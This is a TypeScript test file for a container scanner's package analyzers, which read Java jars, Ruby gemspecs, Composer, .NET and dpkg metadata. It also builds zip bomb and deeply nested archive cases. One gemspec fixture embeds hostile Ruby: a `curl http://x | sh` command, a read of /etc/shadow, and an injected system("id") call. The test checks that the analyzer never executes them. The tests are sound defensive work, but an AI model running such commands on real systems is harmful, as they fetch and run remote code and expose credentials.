import type { Analyzer } from '../../../src/packages/analyzer.js';
import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { execFileSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { english } from '../../../src/core/message.js';
import { localizeMessage } from '../../../src/i18n/user-errors.js';
import { javaAnalyzer, JAR_CAPS, manifestGav, parseManifest, parseProperties, readJar } from '../../../src/packages/analyzers/java.js';
import { gemspecAnalyzer } from '../../../src/packages/analyzers/gemspec.js';
import { composerAnalyzer } from '../../../src/packages/analyzers/composer.js';
import { dotnetAnalyzer } from '../../../src/packages/analyzers/dotnet.js';
import { dpkgAnalyzer } from '../../../src/packages/analyzers/dpkg.js';
import { ZipError, zipEntries } from '../../../src/packages/zip.js';
import { makeZip } from './zip-writer.js';
import { analyzeKept, keepFor } from '../../../src/packages/wanted.js';

/** What `analyzer` reads in a recorded file of test/fixtures/packages, found in the image at `path`. */
const analyzeFixture = (analyzer: Analyzer, path: string, fixture: string) =>
  analyzer.analyze({ path, content: readFileSync(`test/fixtures/packages/${fixture}`), layer: 'l' });

/** As an image scan reads an archive: reduced while the layer streams, then analyzed. */
const viaWalker = (path: string, content: Buffer) => analyzeKept(path, keepFor(path, 0o644, content)!, 'sha256:l', undefined);

const J = 'test/fixtures/packages/java';
const jar = (f: string) => readFileSync(`${J}/${f}`);

/** The oracle: `unzip -p JAR META-INF/maven/…/pom.properties` for every pom.properties in the jar. */
function unzipGavs(file: string): string[] {
  const list = execFileSync('unzip', ['-Z1', file], { encoding: 'utf8' })
    .split('\n')
    .filter((n) => /^META-INF\/maven\/.*\/pom\.properties$/.test(n));
  return list.map((n) => {
    const p = parseProperties(execFileSync('unzip', ['-p', file, n], { encoding: 'utf8' }));
    return `${p.get('groupId')}:${p.get('artifactId')}@${p.get('version')}`;
  });
}

const gavs = (out: { packages: { name: string; version: string }[] }) => out.packages.map((p) => `${p.name}@${p.version}`);

describe('Java archives', () => {
  it('reads pom.properties as unzip shows it, with a maven purl', () => {
    for (const f of ['commons-cli-1.5.0.jar', 'jackson-annotations-2.14.0.jar']) {
      const out = viaWalker(`app/lib/${f}`, jar(f));
      expect(out.warnings).toEqual([]);
      expect(gavs(out)).toEqual(unzipGavs(`${J}/${f}`));
    }
    expect(viaWalker('a.jar', jar('commons-cli-1.5.0.jar')).packages[0]).toMatchObject({
      type: 'maven',
      name: 'commons-cli:commons-cli',
      purl: 'pkg:maven/commons-cli/commons-cli@1.5.0',
      path: 'a.jar',
    });
  });

  it('reads the jars inside a Spring Boot fat jar, named by their path inside it', () => {
    const out = viaWalker('app/app.jar', jar('fat.jar'));
    expect(out.warnings).toEqual([]);
    expect(gavs(out).sort()).toEqual([...unzipGavs(`${J}/commons-cli-1.5.0.jar`), ...unzipGavs(`${J}/jackson-annotations-2.14.0.jar`)].sort());
    expect(out.packages.map((p) => p.path).sort()).toEqual([
      'app/app.jar/BOOT-INF/lib/commons-cli-1.5.0.jar',
      'app/app.jar/BOOT-INF/lib/jackson-annotations-2.14.0.jar',
    ]);
  });

  it('keeps a few hundred bytes of an archive while the layer streams, and tags the layer on analysis', () => {
    expect(keepFor('app.jar', 0o644, jar('fat.jar'))!.length).toBeLessThan(1024);
    expect(viaWalker('app.jar', jar('fat.jar')).packages.every((p) => p.layer === 'sha256:l')).toBe(true);
    expect(javaAnalyzer.analyze({ path: 'x.jar', content: Buffer.from('PK garbage'), layer: 'l' }).warnings.map(english)).toEqual([
      'x.jar: unreadable archive record, skipped',
    ]);
  });

  it('takes no coordinates from a manifest that only describes: the file name is the last source, without a group', () => {
    const out = viaWalker('usr/share/java/commons-logging-adapters-1.2.jar', jar('commons-logging-adapters-1.2.jar'));
    expect(out.packages.map((p) => [p.name, p.version, p.purl])).toEqual([['commons-logging-adapters', '1.2', 'pkg:maven/commons-logging-adapters@1.2']]);
    expect(out.warnings.map(english)).toEqual([
      'usr/share/java/commons-logging-adapters-1.2.jar: no pom.properties and no Maven coordinates in MANIFEST.MF: listed as commons-logging-adapters 1.2 from its file name, group unknown',
    ]);
    const m = parseManifest(
      'Manifest-Version: 1.0\r\nImplementation-Vendor-Id: org.example\r\nImplementation-Title: wid\r\n get\r\nImplementation-Version: 2.0\r\n\r\nName: x\r\nImplementation-Version: 9\r\n',
    );
    expect(manifestGav(m)).toEqual({ groupId: 'org.example', artifactId: 'widget', version: '2.0' });
  });

  it('stops a zip bomb with a warning', () => {
    const bomb = makeZip([{ name: 'BOOT-INF/lib/bomb.jar', data: Buffer.alloc(8 * 1024 * 1024) }]);
    const out = readJar(bomb, 'bomb.jar', 'l', { ...JAR_CAPS, maxEntryBytes: 1024 * 1024 });
    expect(out.packages).toEqual([]);
    expect(out.warnings.map(english)).toEqual(['bomb.jar: BOOT-INF/lib/bomb.jar: expands beyond 1048576 bytes (a zip bomb?): not read']);
    expect(out.warnings[0]).toMatchObject({ id: 'analyzers.java.notRead', data: { reason: { id: 'analyzers.zip.bomb' } } });
    const many = makeZip(Array.from({ length: 20 }, (_, i) => ({ name: `lib/x${i}.jar`, data: Buffer.alloc(600 * 1024) })));
    const out2 = readJar(many, 'many.jar', 'l', { ...JAR_CAPS, maxTotalBytes: 4 * 1024 * 1024 });
    expect(out2.warnings.filter((w) => /a zip bomb\?/.test(english(w))).length).toBeGreaterThan(10);
  });

  it("says an archive it did not read in Japanese, with the zip reader's reason, after the walker kept it", () => {
    const bomb = makeZip([{ name: 'BOOT-INF/lib/bomb.jar', data: Buffer.alloc(64 * 1024 * 1024 + 1) }]);
    const [w] = viaWalker('app/bomb.jar', bomb).warnings;
    expect(english(w!)).toBe('app/bomb.jar: BOOT-INF/lib/bomb.jar: expands beyond 67108864 bytes (a zip bomb?): not read');
    expect(localizeMessage(w!, 'ja')).toBe('app/bomb.jar: BOOT-INF/lib/bomb.jar: 展開すると 67108864 バイトを超えます（zip 爆弾？）: 読んでいません');
    const broken = javaAnalyzer.reduce!('x.jar', Buffer.from('PK\x03\x04 not a whole zip archive'))!;
    const [notZip] = javaAnalyzer.analyze({ path: 'x.jar', content: broken, layer: 'l' }).warnings;
    expect(localizeMessage(notZip!, 'ja')).toBe(
      'x.jar: セントラルディレクトリの終端がありません（zip アーカイブでないか、途中で切れています）: 読んでいません',
    );
    const e = (() => {
      try {
        zipEntries(Buffer.alloc(10), 10);
      } catch (err) {
        return err;
      }
    })();
    expect(e).toBeInstanceOf(ZipError);
    expect((e as ZipError).message).toBe('too short to be a zip archive');
    expect(localizeMessage((e as ZipError).text, 'ja')).toBe('zip アーカイブにしては短すぎます');
  });

  it('stops a jar nested 50 levels deep at the depth cap', () => {
    let inner: Buffer = jar('commons-cli-1.5.0.jar');
    for (let i = 0; i < 50; i++) inner = makeZip([{ name: `lib/level${i}.jar`, data: inner, store: true }]);
    const out = viaWalker('deep.jar', inner);
    expect(out.packages).toEqual([]);
    expect(out.warnings.map(english)).toEqual([
      expect.stringMatching(/^deep\.jar(\/lib\/level\d+\.jar){8}: 1 archive\(s\) nested deeper than 8 levels: not read$/),
    ]);
  });

  it('never throws on mutated archives', () => {
    const b0 = jar('fat.jar');
    fc.assert(
      fc.property(fc.integer({ min: 0, max: b0.length - 1 }), fc.integer({ min: 0, max: 255 }), fc.nat(b0.length), (at, v, cut) => {
        const b = Buffer.from(b0.subarray(0, Math.max(cut, 1)));
        if (at < b.length) b[at] = v;
        readJar(b, 'x.jar', 'l');
      }),
      { numRuns: 200 },
    );
    expect(() => zipEntries(Buffer.alloc(10), 10)).toThrow(/too short/);
  });
});

describe('Ruby gemspecs', () => {
  it('reads name, version and license of installed gemspecs as text', () => {
    const out = analyzeFixture(gemspecAnalyzer, 'usr/share/rubygems-integration/all/specifications/rake-13.0.6.gemspec', 'gems/rake-13.0.6.gemspec');
    expect(out).toEqual({
      packages: [expect.objectContaining({ type: 'gem', name: 'rake', version: '13.0.6', license: 'MIT', purl: 'pkg:gem/rake@13.0.6' })],
      warnings: [],
    });
    expect(gemspecAnalyzer.wants('usr/lib/ruby/gems/3.1.0/specifications/default/json-2.6.1.gemspec', 0o644)).toBe(true);
    expect(gemspecAnalyzer.wants('app/foo.gemspec', 0o644)).toBe(false);
  });

  it('never runs Ruby code: a computed version is refused with a warning', () => {
    const evil = 'Gem::Specification.new do |s|\n  s.name = "evil"\n  s.version = `curl http://x | sh`\n  s.version2 = File.read("/etc/shadow")\nend\n';
    const out = gemspecAnalyzer.analyze({ path: 'specifications/evil.gemspec', content: Buffer.from(evil), layer: 'l' });
    expect(out.packages).toEqual([]);
    expect(out.warnings.map(english)).toEqual(['specifications/evil.gemspec: name or version is Ruby code, not a string (it is never run): skipped']);
    const interp = 's.name = "a#{system("id")}"\ns.version = "1.0"\n';
    expect(gemspecAnalyzer.analyze({ path: 'specifications/i.gemspec', content: Buffer.from(interp), layer: 'l' }).packages).toEqual([]);
    fc.assert(fc.property(fc.string(), (s) => void gemspecAnalyzer.analyze({ path: 'specifications/x.gemspec', content: Buffer.from(s), layer: 'l' })));
  });
});

describe('Composer, .NET, distroless dpkg', () => {
  it('reads Composer 2 installed.json (and the Composer 1 array)', () => {
    const out = analyzeFixture(composerAnalyzer, 'app/vendor/composer/installed.json', 'composer/installed.json');
    expect(out.warnings).toEqual([]);
    expect(out.packages.map((p) => [p.purl, p.license])).toEqual([
      ['pkg:composer/pear/log@1.13.3', 'MIT'],
      ['pkg:composer/pear/pear_exception@v1.0.2', 'BSD-2-Clause'],
    ]);
    const one = composerAnalyzer.analyze({ path: 'x', content: Buffer.from('[{"name":"a/b","version":"1.0"},{"name":1}]'), layer: 'l' });
    expect(one.packages).toMatchObject([{ name: 'a/b' }]);
    expect(one.warnings.map(english)).toEqual(['x: 1 entry without name or version skipped']);
  });

  it('reads the NuGet packages of a deps.json, not the projects', () => {
    const out = analyzeFixture(dotnetAnalyzer, 'app/ExampleApp1.deps.json', 'dotnet/ExampleApp1.deps.json');
    expect(out).toEqual({
      packages: [expect.objectContaining({ type: 'nuget', name: 'Newtonsoft.Json', version: '13.0.1', purl: 'pkg:nuget/Newtonsoft.Json@13.0.1' })],
      warnings: [],
    });
    fc.assert(fc.property(fc.json(), (s) => void dotnetAnalyzer.analyze({ path: 'x.deps.json', content: Buffer.from(s), layer: 'l' })));
    fc.assert(fc.property(fc.json(), (s) => void composerAnalyzer.analyze({ path: 'installed.json', content: Buffer.from(s), layer: 'l' })));
  });

  it('reads a distroless status.d file (one package, no Status field)', () => {
    const st = 'Package: libssl3\nVersion: 3.0.15-1~deb12u1\nArchitecture: amd64\nSource: openssl\n';
    expect(dpkgAnalyzer.analyze({ path: 'var/lib/dpkg/status.d/libssl3', content: Buffer.from(st), layer: 'l' }).packages).toEqual([
      expect.objectContaining({ name: 'libssl3', sourceName: 'openssl' }),
    ]);
  });
});
